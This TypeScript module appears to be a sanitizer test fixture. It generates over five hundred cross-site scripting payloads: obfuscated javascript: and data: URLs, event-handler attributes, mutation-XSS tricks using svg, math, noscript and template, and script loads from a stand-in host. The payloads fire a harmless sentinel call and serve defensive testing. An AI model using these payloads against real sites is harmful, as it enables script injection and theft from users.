/** Names the function that a payload calls if it runs, and the host that it asks for something if it loads. */
export const RAN = "__payloadRan"
export const LOADED = "payload.invalid"

const call = `${RAN}(1)`
const address = `https://${LOADED}/x`

const handlers =
  "load error click mouseover focus blur toggle begin animationstart transitionend pointerover input".split(" ")
const loaders = "img image input svg video audio iframe object embed body details math a div table td p".split(" ")
const schemes = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `\tjavascript:${call}`,
  `java\nscript:${call}`,
  `java&#9;script:${call}`,
  `java&Tab;script:${call}`,
  `&#106;avascript:${call}`,
  `&#x6A;avascript&colon;${call}`,
  `\u0001javascript:${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD4x`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `blob:https://${LOADED}/x`,
  `file:///etc/hosts`,
  `filesystem:https://${LOADED}/x`,
  `view-source:javascript:${call}`,
  `livescript:${call}`,
  `feed:javascript:${call}`,
]
const carriers = [
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<img src="${url}">`,
  (url: string) => `<img srcset="${url} 1x">`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<form action="${url}"><button>x</button></form>`,
  (url: string) => `<button formaction="${url}">x</button>`,
  (url: string) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  (url: string) => `<math><mtext href="${url}">x</mtext></math>`,
  (url: string) => `<div style="background:url('${url}')">x</div>`,
  (url: string) => `<base href="${url}">`,
  (url: string) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url: string) => `<figure><img src="${url}"><figcaption>x</figcaption></figure>`,
]

/** Elements that run or load by themselves, whole and in the disguises that fool sanitizers. */
const wholes = [
  `<script>${call}</script>`,
  `<script src="${address}"></script>`,
  `<SCRIPT/x>${call}</SCRIPT>`,
  `<scr<script>ipt>${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<svg><animate attributeName=href values=javascript:${call} /><a><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${call}></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"></use></svg>`,
  `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<math><mi><mglyph><style><img src=x onerror=${call}></style></mglyph></mi></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  `<style>@import "${address}"; * { background: url(${address}) }</style>`,
  `<link rel=stylesheet href="${address}">`,
  `<link rel=preload as=image href="${address}">`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<template><img src=x onerror=${call}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[><img src=x onerror=${call}>]]>`,
  `<xmp><img src=x onerror=${call}></xmp>`,
  `<textarea></textarea><img src=x onerror=${call}>`,
  `<title><img src=x onerror=${call}></title>`,
  `<select><option><img src=x onerror=${call}></select>`,
  `<table><caption><img src=x onerror=${call}></caption><tr><td>x</table>`,
  `<video poster="javascript:${call}"><source onerror=${call}></video>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<isindex action=javascript:${call} type=image>`,
  `<keygen autofocus onfocus=${call}>`,
  `<portal src="${address}"></portal>`,
  `<p data-pm-slice="0 0 []" onclick=${call}>x</p>`,
  `<div data-quire="1"><p onclick=${call}>x</p></div>`,
  `<p data-unknown='{"onclick":"${call}"}'>x</p>`,
  `<span data-unsupported="inline" data-embed='{"type":"script","src":"${address}"}'>x</span>`,
  `<span data-color="red;background:url(${address})">x</span>`,
  `<mark data-color="url(${address})">x</mark>`,
  `<table data-fills='{"a/b":"url(${address})"}'><tr><td>x</td></tr></table>`,
  `<time datetime="2026-11-25" onclick=${call}>x</time>`,
  `<span data-math onclick=${call}>\\href{javascript:${call}}{x}</span>`,
  `<div data-math-block>\\url{javascript:${call}}</div>`,
  `<span data-mention="x" data-label="<img src=x onerror=${call}>">x</span>`,
]

/** Each of them ends what it begins, so that several can be pasted as one. */
const closed: readonly string[] = [
  ...loaders.flatMap((tag) =>
    handlers.map((name) => `<${tag} src=x on${name}="${call}" tabindex=0 autofocus>x</${tag}>`),
  ),
  ...carriers.flatMap((carry) => schemes.map((url) => carry(url))),
  ...carriers.map((carry) => carry(`${address}?tracking`)).filter((html) => !/<(?:a |img src|svg|figure)/.test(html)),
]

/** More than five hundred ways to run or load something by being pasted. */
export const payloads: readonly string[] = [...closed, ...wholes]

/** The same, those together that can be. */
export const gatheredPayloads: readonly string[] = [
  ...Array.from({length: Math.ceil(closed.length / 20)}, (_, part) => closed.slice(part * 20, part * 20 + 20).join("")),
  ...wholes,
]
